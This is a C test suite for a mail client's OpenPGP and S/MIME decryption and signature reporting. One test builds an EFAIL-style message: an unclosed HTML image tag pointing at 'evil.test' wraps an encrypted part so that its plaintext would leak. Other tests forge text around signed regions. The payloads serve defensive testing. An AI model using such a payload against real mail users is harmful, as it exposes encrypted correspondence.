/* SPDX-License-Identifier: GPL-3.0-or-later */
#include <string.h>

#include "model/pr-extras.h"
#include "pr-protected-fixture.h"

/* ---- OpenPGP ---- */

static void
test_encrypted_message_is_read (PrTestGnupg *f, gconstpointer keys)
{
  g_autoptr (PrMessage) message = NULL;
  PrProtected *what;
  const PrEnvelope *envelope;

  if (!f->usable)
    return;
  message = protected_whole (protected_encrypt (f, PROTECTED_LETTER, FALSE));
  what = protected_open_one (message);
  protected_assert_text (what, "The engine weaves.");
  g_assert_true (what->whole);
  g_assert_cmpstr (what->title, ==, "Decrypted with OpenPGP");
  protected_assert_says (what, "It is not signed: anybody may have written it");
  protected_assert_says (what, "Decrypted with key ");
  protected_assert_says (what, "Encrypted subject: The engine");
  g_assert_cmpuint (pr_message_get_parts (what->message)->len, ==, 2);
  /* Of whom and when it is, the outer header says; the octets stay what came. */
  envelope = pr_message_get_envelope (what->message);
  g_assert_cmpuint (envelope->from->len, ==, 1);
  g_assert_cmpstr (envelope->subject, ==, "...");
  g_assert_true (pr_message_get_raw (what->message) == pr_message_get_raw (message));
  pr_protected_free (what);
}

static void
test_signer_inside_is_told (PrTestGnupg *f, gconstpointer keys)
{
  g_autoptr (PrMessage) message = NULL;
  PrProtected *what;
  const PrSigner *signer;

  if (!f->usable)
    return;
  message = protected_whole (protected_encrypt (f, PROTECTED_LETTER, TRUE));
  what = protected_open_one (message);
  protected_assert_text (what, "The engine weaves.");
  protected_assert_says (what, "Signed by Ada Lovelace <ada@example.org>\nKey ");
  g_assert_false (what->warns);
  g_assert_cmpuint (what->signers->len, ==, 1);
  signer = g_ptr_array_index (what->signers, 0);
  g_assert_cmpstr (signer->state, ==, "good");
  g_assert_true (signer->verified);
  pr_protected_free (what);
}

/* As RFC 3156 §6.1 has it: a multipart/signed is what was encrypted. */
static void
test_signed_inside_of_encrypted_is_verified (PrTestGnupg *f, gconstpointer keys)
{
  static const char part[] = "Content-Type: text/plain\r\n\r\nThe engine weaves.\r\n";
  const char *const sign[] = { "gpg",     "--batch",       "--quiet",
                               "--armor", "--detach-sign", NULL };
  g_autoptr (GBytes) signature = NULL;
  g_autoptr (PrMessage) message = NULL;
  g_autofree char *entity = NULL;
  PrProtected *what;

  if (!f->usable)
    return;
  signature = pr_test_gnupg_run (f, part, sign);
  entity =
    g_strdup_printf ("Content-Type: multipart/signed; boundary=s; micalg=pgp-sha512; "
                     "protocol=\"application/pgp-signature\"\r\n\r\n--s\r\n%s\r\n--s\r\n"
                     "Content-Type: application/pgp-signature\r\n\r\n%.*s\r\n--s--\r\n",
                     part, (int) g_bytes_get_size (signature),
                     (const char *) g_bytes_get_data (signature, NULL));
  message = protected_whole (protected_encrypt (f, entity, FALSE));
  what = protected_open_one (message);
  protected_assert_text (what, "The engine weaves.");
  protected_assert_says (what, "Signed by Ada Lovelace <ada@example.org>");
  g_assert_false (what->warns);
  pr_protected_free (what);
}

/* Those who are not named may be the ones who read it. */
static void
test_key_is_told_only_where_it_is_the_one (PrTestGnupg *f, gconstpointer keys)
{
  static const struct
  {
    const char *recipients[2]; /* as GnuPG has them */
    guint n_named;
    const char *says;
  } ways[] = {
    { { "-rada@example.org", "--" }, 1, "Decrypted with key " },
    { { "-rada@example.org", "-Rbob@example.org" }, 1, "Encrypted for key " },
    { { "-Rada@example.org", "-rbob@example.org" }, 1, "Encrypted for key " },
    { { "-rada@example.org", "-rbob@example.org" }, 2, "Encrypted for the keys " },
    { { "-rada@example.org", "--symmetric" }, 1, "Encrypted for key " },
    { { "-Rada@example.org", "--" }, 0, "It is not signed" },
  };
  const char *const make[] = { "gpg",
                               "--batch",
                               "--quiet",
                               "--passphrase",
                               "",
                               "--quick-generate-key",
                               "bob@example.org",
                               "future-default",
                               "default",
                               "never",
                               NULL };
  g_autoptr (GBytes) made = f->usable ? pr_test_gnupg_run (f, "", make) : NULL;

  for (guint i = 0; f->usable && i < G_N_ELEMENTS (ways); i++)
    {
      const char *const arguments[] = { "gpg",
                                        "--batch",
                                        "--quiet",
                                        "--trust-model",
                                        "always",
                                        "--pinentry-mode",
                                        "loopback",
                                        "--passphrase",
                                        "Jacquard",
                                        "--armor",
                                        "--encrypt",
                                        ways[i].recipients[0],
                                        ways[i].recipients[1],
                                        NULL };
      g_autoptr (GBytes) armor = pr_test_gnupg_run (f, PROTECTED_LETTER, arguments);
      g_autoptr (PrMessage) message = protected_whole (protected_wrap (
        g_strndup (g_bytes_get_data (armor, NULL), g_bytes_get_size (armor))));
      PrProtected *what = protected_open_one (message);

      protected_assert_text (what, "The engine weaves.");
      g_assert_cmpuint (g_strv_length (what->keys), ==, ways[i].n_named);
      protected_assert_says (what, ways[i].says);
      if (i > 0)
        g_assert_null (strstr (what->details, "Decrypted with key"));
      pr_protected_free (what);
    }
}

static void
test_without_the_key_it_is_told_for_whom (PrTestGnupg *f, gconstpointer keys)
{
  g_autoptr (PrMessage) message = NULL;
  PrProtected *what;

  if (!f->usable)
    return;
  message = protected_whole (protected_encrypt (f, PROTECTED_LETTER, FALSE));
  pr_test_gnupg_forget (f);
  what = protected_open_one (message);
  g_assert_cmpint (what->state, ==, PR_PROTECTED_NO_KEY);
  g_assert_null (what->message);
  g_assert_cmpstr (what->title, ==, "Encrypted, and the key for it is not here");
  protected_assert_says (what, "Import your secret key");
  protected_assert_says (what, "Encrypted for key ");
  pr_protected_free (what);
}

/* The attack of 2018: what stands around the encrypted part would send its text away. */
static void
test_encrypted_part_waits_and_is_read_alone (PrTestGnupg *f, gconstpointer keys)
{
  g_autofree char *inner = NULL;
  g_autoptr (PrMessage) message = NULL;
  g_autoptr (GPtrArray) before = NULL;
  g_autoptr (GPtrArray) after = NULL;
  const PrProtected *what;
  g_autofree char *html = NULL;

  if (!f->usable)
    return;
  inner =
    protected_encrypt (f, "Content-Type: text/html\r\n\r\n<p>The secret\r\n", FALSE);
  message = protected_message (
    g_strconcat (PROTECTED_HEADER,
                 "Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\n",
                 "Content-Type: text/html\r\n\r\n<img src=\"http://evil.test/\r\n--o\r\n",
                 inner, "\r\n--o\r\nContent-Type: text/html\r\n\r\n\">\r\n--o--\r\n",
                 NULL));
  before = pr_protected_list (message, NULL, -1);
  g_assert_cmpuint (before->len, ==, 1);
  what = g_ptr_array_index (before, 0);
  g_assert_cmpint (what->state, ==, PR_PROTECTED_WAITS);
  g_assert_false (what->whole);
  g_assert_null (what->message);
  after = pr_protected_list (message, NULL, 0);
  what = g_ptr_array_index (after, 0);
  protected_assert_text (what, "The secret");
  html = pr_message_dup_html (what->message);
  g_assert_null (strstr (html, "evil.test"));
  protected_assert_says (what, "Only a part of this message was encrypted");
}

static void
test_passphrase_is_not_asked_for_unwanted (PrTestGnupg *f, gconstpointer keys)
{
  const char *const arguments[] = {
    "gpg",      "--batch",      "--quiet",  "--armor",     "--pinentry-mode",
    "loopback", "--passphrase", "Jacquard", "--symmetric", NULL
  };
  g_autoptr (GBytes) armor = NULL;
  g_autoptr (PrMessage) message = NULL;
  PrProtected *what;

  if (!f->usable)
    return;
  armor = pr_test_gnupg_run (f, "words", arguments);
  message = protected_message (
    g_strdup_printf ("%s\r\n%.*s", PROTECTED_HEADER, (int) g_bytes_get_size (armor),
                     (const char *) g_bytes_get_data (armor, NULL)));
  what = protected_open_one (message);
  g_assert_cmpint (what->state, ==, PR_PROTECTED_WAITS);
  g_assert_true (what->encrypted);
  pr_protected_free (what);
}

/* ---- in the text ---- */

static void
test_armor_that_is_the_text_is_read (PrTestGnupg *f, gconstpointer keys)
{
  g_autofree char *armor = NULL;
  g_autoptr (PrMessage) message = NULL;
  PrProtected *what;

  if (!f->usable)
    return;
  armor = pr_test_gnupg_encrypt (f, "Der Webstuhl läuft.\n", TRUE);
  message = protected_message (g_strconcat (PROTECTED_HEADER, "\r\n", armor, NULL));
  what = protected_open_one (message);
  protected_assert_text (what, "Der Webstuhl läuft.");
  protected_assert_says (what, "Signed by Ada Lovelace");
  pr_protected_free (what);
}

static void
test_files_stay_beside_a_text_in_armor (PrTestGnupg *f, gconstpointer keys)
{
  g_autofree char *armor = NULL;
  g_autoptr (PrMessage) message = NULL;
  PrProtected *what;

  if (!f->usable)
    return;
  armor = pr_test_gnupg_clear_sign (f, "See the file.\n");
  message = protected_message (g_strconcat (
    PROTECTED_HEADER, "Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\n",
    "Content-Type: text/plain\r\n\r\n", armor,
    "\r\n--o\r\nContent-Type: application/pdf; name=a.pdf\r\nContent-Disposition: "
    "attachment\r\n\r\n%PDF\r\n--o--\r\n",
    NULL));
  what = protected_open_one (message);
  protected_assert_text (what, "See the file.");
  g_assert_cmpuint (pr_message_get_parts (what->message)->len, ==, 2);
  protected_assert_says (what, "Only a part of this message is signed");
  g_assert_true (what->warns);
  pr_protected_free (what);
}

static void
test_signed_region_is_told_apart (PrTestGnupg *f, gconstpointer keys)
{
  g_autofree char *armor = NULL;
  g_autoptr (PrMessage) message = NULL;
  PrProtected *what;

  if (!f->usable)
    return;
  armor = pr_test_gnupg_clear_sign (f, "Pay nothing.\n");
  message = protected_message (
    g_strconcat (PROTECTED_HEADER, "\r\nPay Eve.\r\n", armor, "Thanks.\r\n", NULL));
  what = protected_open_one (message);
  protected_assert_text (what, "Pay nothing.");
  g_assert_false (what->whole);
  g_assert_cmpstr (what->title, ==, "Signed by Ada Lovelace <ada@example.org>");
  protected_assert_says (what, "Only a part of this message is signed");
  g_assert_true (what->warns);
  pr_protected_free (what);
}

static void
test_changed_text_in_armor_is_told (PrTestGnupg *f, gconstpointer keys)
{
  g_autofree char *armor = NULL;
  g_autoptr (PrMessage) message = NULL;
  PrProtected *what;

  if (!f->usable)
    return;
  armor = pr_test_gnupg_clear_sign (f, "Pay nothing.\n");
  memcpy (strstr (armor, "nothing"), "1000000", 7);
  message = protected_message (g_strconcat (PROTECTED_HEADER, "\r\n", armor, NULL));
  what = protected_open_one (message);
  g_assert_cmpstr (what->title, ==, "The signature does not match: the text was changed");
  g_assert_true (what->warns);
  pr_protected_free (what);
}

/* ---- S/MIME ---- */

static void
test_smime_is_read (PrTestGnupg *f, gconstpointer keys)
{
  g_autoptr (PrMessage) message = NULL;
  PrProtected *what;

  if (!f->usable)
    return;
  message = protected_whole (protected_smime (f, PROTECTED_LETTER, TRUE));
  what = protected_open_one (message);
  protected_assert_text (what, "The engine weaves.");
  g_assert_true (what->whole && what->smime && what->encrypted);
  protected_assert_says (what,
                         "S/MIME does not show whether what is not signed was changed");
  pr_protected_free (what);
}

static void
test_opaque_smime_signature_is_opened (PrTestGnupg *f, gconstpointer keys)
{
  g_autoptr (PrMessage) message = NULL;
  PrProtected *what;

  if (!f->usable)
    return;
  message = protected_whole (protected_smime (f, PROTECTED_LETTER, FALSE));
  what = protected_open_one (message);
  protected_assert_text (what, "The engine weaves.");
  g_assert_false (what->encrypted);
  g_assert_true (g_str_has_prefix (what->title, "Signed by "));
  pr_protected_free (what);
}

static void
test_layers_of_smime_are_opened (PrTestGnupg *f, gconstpointer keys)
{
  g_autofree char *is_signed = NULL;
  g_autoptr (PrMessage) message = NULL;
  PrProtected *what;

  if (!f->usable)
    return;
  is_signed = protected_smime (f, PROTECTED_LETTER, FALSE);
  message = protected_whole (protected_smime (f, is_signed, TRUE));
  what = protected_open_one (message);
  protected_assert_text (what, "The engine weaves.");
  g_assert_true (what->encrypted);
  protected_assert_says (what, "Signed by ");
  pr_protected_free (what);
}

/* As mailing lists wrap it: a multipart in another. */
static void
test_signed_part_of_a_message_is_verified (PrTestGnupg *f, gconstpointer keys)
{
  static const char part[] = "Content-Type: text/plain\r\n\r\nThe engine weaves.\r\n";
  const char *const sign[] = { "gpg",     "--batch",       "--quiet",
                               "--armor", "--detach-sign", NULL };
  g_autoptr (GBytes) signature = NULL;
  g_autoptr (PrMessage) message = NULL;
  g_autoptr (GPtrArray) extras = NULL;
  const PrExtra *extra;

  if (!f->usable)
    return;
  signature = pr_test_gnupg_run (f, part, sign);
  message = protected_message (g_strdup_printf (
    "%sContent-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\nContent-Type: "
    "multipart/signed; boundary=s; micalg=pgp-sha512; "
    "protocol=\"application/pgp-signature\"\r\n\r\n--s\r\n%s\r\n--s\r\n"
    "Content-Type: application/pgp-signature\r\n\r\n%.*s\r\n--s--\r\n--o\r\n\r\n"
    "From the list.\r\n--o--\r\n",
    PROTECTED_HEADER, part, (int) g_bytes_get_size (signature),
    (const char *) g_bytes_get_data (signature, NULL)));
  extras = pr_extras_list (message);
  g_assert_cmpuint (extras->len, ==, 1);
  extra = g_ptr_array_index (extras, 0);
  g_assert_cmpstr (extra->title, ==, "Signed by Ada Lovelace <ada@example.org>");
  g_assert_true (extra->warns);
  g_assert_nonnull (strstr (extra->details, "Only a part of this message is signed"));
}

static void
test_subject_is_encrypted_only_where_it_was (PrTestGnupg *f, gconstpointer keys)
{
  g_autoptr (PrMessage) message = NULL;
  PrProtected *what;

  if (!f->usable)
    return;
  message = protected_whole (protected_smime (f, PROTECTED_LETTER, FALSE));
  what = protected_open_one (message);
  g_assert_false (what->encrypted);
  protected_assert_says (what, "Subject inside: The engine");
  g_assert_null (strstr (what->details, "Encrypted subject"));
  pr_protected_free (what);
}

/* The innermost counts, and where it came from. */
static void
test_subject_of_layers_is_told_once (PrTestGnupg *f, gconstpointer keys)
{
  static const struct
  {
    gboolean outer_encrypted, inner_encrypted;
    const char *says;
  } layers[] = {
    { TRUE, FALSE, "Encrypted subject: The engine" },
    { FALSE, TRUE, "Encrypted subject: The engine" },
    { FALSE, FALSE, "Subject inside: The engine" },
  };

  for (guint i = 0; f->usable && i < G_N_ELEMENTS (layers); i++)
    {
      g_autofree char *inner =
        protected_smime (f, PROTECTED_LETTER, layers[i].inner_encrypted);
      g_autofree char *outer = g_strconcat ("Subject: Wheels\r\n", inner, NULL);
      g_autoptr (PrMessage) message =
        protected_whole (protected_smime (f, outer, layers[i].outer_encrypted));
      PrProtected *what = protected_open_one (message);

      protected_assert_text (what, "The engine weaves.");
      protected_assert_says (what, layers[i].says);
      g_assert_null (strstr (what->details, "Wheels"));
      pr_protected_free (what);
    }
}

static void
test_subject_around_encryption_is_not_encrypted (PrTestGnupg *f, gconstpointer keys)
{
  g_autofree char *inner = NULL;
  g_autofree char *outer = NULL;
  g_autoptr (PrMessage) message = NULL;
  PrProtected *what;

  if (!f->usable)
    return;
  inner = protected_smime (f, "\r\nThe engine weaves.\r\n", TRUE);
  outer = g_strconcat ("Subject: Wheels\r\n", inner, NULL);
  message = protected_whole (protected_smime (f, outer, FALSE));
  what = protected_open_one (message);
  protected_assert_text (what, "The engine weaves.");
  g_assert_true (what->encrypted);
  protected_assert_says (what, "Subject inside: Wheels");
  pr_protected_free (what);
}

/* The signature opens, what it holds does not. */
static void
test_missing_key_inside_of_a_signature_is_told (PrTestGnupg *f, gconstpointer keys)
{
  g_autofree char *encrypted = NULL;
  g_autoptr (PrMessage) message = NULL;
  PrProtected *what;

  if (!f->usable)
    return;
  encrypted = protected_smime (f, PROTECTED_LETTER, TRUE);
  message = protected_whole (protected_smime (f, encrypted, FALSE));
  pr_test_gnupg_forget (f);
  what = protected_open_one (message);
  g_assert_cmpint (what->state, ==, PR_PROTECTED_NO_KEY);
  g_assert_cmpstr (what->title, ==, "Encrypted, and the key for it is not here");
  g_assert_null (what->message);
  pr_protected_free (what);
}

/* ---- without keys ---- */

static void
test_other_mail_is_not_looked_at (void)
{
  g_autoptr (PrMessage) message = protected_message (g_strdup (
    PROTECTED_HEADER
    "\r\n> -----BEGIN PGP MESSAGE-----\r\n> x\r\n> -----END PGP MESSAGE-----\r\n"));
  g_autoptr (GPtrArray) all = pr_protected_list (message, NULL, -1);
  g_autofree char *text = pr_message_dup_text (message);
  PrOpened opened = { .message = message, .text = (char *) "Hello\n" };

  g_assert_cmpuint (all->len, ==, 0);
  g_assert_false (pr_protected_may_be_in (&opened));
}

static void
listed_cb (GObject *source, GAsyncResult *result, gpointer user_data)
{
  GError **error = user_data;

  g_assert_null (pr_protected_list_finish (result, error));
}

static void
test_listing_can_be_cancelled (void)
{
  g_autoptr (PrMessage) message =
    protected_message (g_strdup (PROTECTED_HEADER "\r\nx\r\n"));
  g_autoptr (GCancellable) cancellable = g_cancellable_new ();
  g_autoptr (GError) error = NULL;

  g_cancellable_cancel (cancellable);
  pr_protected_list_async (message, NULL, -1, cancellable, listed_cb, &error);
  while (error == NULL)
    g_main_context_iteration (NULL, TRUE);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
}

/* "Привет" in KOI8-R, of which nobody tells so. */
static void
test_chosen_charset_is_of_what_was_inside_too (PrTestGnupg *f, gconstpointer keys)
{
  g_autoptr (PrMessage) message = NULL;
  g_autoptr (PrOpened) opened = NULL;
  g_autoptr (PrOpened) other = NULL;
  g_autoptr (GPtrArray) all = NULL;
  g_autoptr (GPtrArray) others = NULL;

  if (!f->usable)
    return;
  message = protected_whole (
    protected_encrypt (f,
                       "Content-Type: text/plain; charset=windows-1252\r\n\r\n"
                       "\xf0\xd2\xc9\xd7\xc5\xd4\r\n",
                       FALSE));
  opened = pr_opened_new_in_charset (pr_message_get_raw (message), "KOI8-R");
  all = pr_protected_open (opened);
  g_assert_true (opened->inside);
  g_assert_cmpstr (g_strchomp (opened->text), ==, "Привет");
  /* One that nobody knows any more is none. */
  other = pr_opened_new_in_charset (pr_message_get_raw (message), "x-lost");
  others = pr_protected_open (other);
  g_assert_cmpstr (g_strchomp (other->text), ==, "ðÒÉ×ÅÔ");
}

int
main (int argc, char *argv[])
{
  const PrTestKeys pgp = PR_TEST_OPENPGP;

  g_test_init (&argc, &argv, NULL);

  protected_add ("/protected/encrypted-message-is-read", pgp,
                 test_encrypted_message_is_read);
  protected_add ("/protected/signer-inside-is-told", pgp, test_signer_inside_is_told);
  protected_add ("/protected/signed-inside-of-encrypted-is-verified", pgp,
                 test_signed_inside_of_encrypted_is_verified);
  protected_add ("/protected/key-is-told-only-where-it-is-the-one", pgp,
                 test_key_is_told_only_where_it_is_the_one);
  protected_add ("/protected/without-the-key-it-is-told-for-whom", pgp,
                 test_without_the_key_it_is_told_for_whom);
  protected_add ("/protected/encrypted-part-waits-and-is-read-alone", pgp,
                 test_encrypted_part_waits_and_is_read_alone);
  protected_add ("/protected/passphrase-is-not-asked-for-unwanted", pgp,
                 test_passphrase_is_not_asked_for_unwanted);
  protected_add ("/protected/armor-that-is-the-text-is-read", pgp,
                 test_armor_that_is_the_text_is_read);
  protected_add ("/protected/files-stay-beside-a-text-in-armor", pgp,
                 test_files_stay_beside_a_text_in_armor);
  protected_add ("/protected/signed-region-is-told-apart", pgp,
                 test_signed_region_is_told_apart);
  protected_add ("/protected/changed-text-in-armor-is-told", pgp,
                 test_changed_text_in_armor_is_told);
  protected_add ("/protected/chosen-charset-is-of-what-was-inside-too", pgp,
                 test_chosen_charset_is_of_what_was_inside_too);
  protected_add ("/protected/signed-part-of-a-message-is-verified", pgp,
                 test_signed_part_of_a_message_is_verified);
  protected_add ("/protected/smime-is-read", PR_TEST_SMIME, test_smime_is_read);
  protected_add ("/protected/opaque-smime-signature-is-opened", PR_TEST_SMIME,
                 test_opaque_smime_signature_is_opened);
  protected_add ("/protected/layers-of-smime-are-opened", PR_TEST_SMIME,
                 test_layers_of_smime_are_opened);
  protected_add ("/protected/subject-is-encrypted-only-where-it-was", PR_TEST_SMIME,
                 test_subject_is_encrypted_only_where_it_was);
  protected_add ("/protected/subject-of-layers-is-told-once", PR_TEST_SMIME,
                 test_subject_of_layers_is_told_once);
  protected_add ("/protected/subject-around-encryption-is-not-encrypted", PR_TEST_SMIME,
                 test_subject_around_encryption_is_not_encrypted);
  protected_add ("/protected/missing-key-inside-of-a-signature-is-told", PR_TEST_SMIME,
                 test_missing_key_inside_of_a_signature_is_told);
  g_test_add_func ("/protected/other-mail-is-not-looked-at",
                   test_other_mail_is_not_looked_at);
  g_test_add_func ("/protected/listing-can-be-cancelled", test_listing_can_be_cancelled);
  return g_test_run ();
}
